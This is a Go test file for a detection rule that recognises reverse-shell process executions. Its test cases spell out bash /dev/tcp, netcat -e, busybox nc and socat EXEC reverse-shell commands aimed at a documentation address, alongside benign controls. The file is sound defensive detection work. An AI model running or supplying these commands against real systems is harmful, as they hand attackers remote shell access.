package builtin

import "testing"

func TestReverseShell(t *testing.T) {
	run(t, reverseShell, tests{
		"bash":      {exec("/bin/bash", "bash\x00-c\x00bash -i >& /dev/tcp/192.0.2.1/9", 0), true},
		"netcat":    {exec("/bin/nc", "nc\x00192.0.2.1\x009\x00-e\x00/bin/sh", 0), true},
		"busybox":   {exec("/bin/busybox", "nc\x00-e\x00sh", 0), true},
		"socat":     {exec("/usr/bin/socat", "socat\x00TCP:192.0.2.1:9\x00EXEC:sh", 0), true},
		"nc, plain": {exec("/bin/nc", "nc\x00192.0.2.1\x009", 0), false},
		"no code":   {exec("/bin/cat", "cat\x00/dev/tcp/x", 0), false},
		"sh, plain": {exec("/bin/sh", "sh\x00-c\x00ls", 0), false},
	})
}
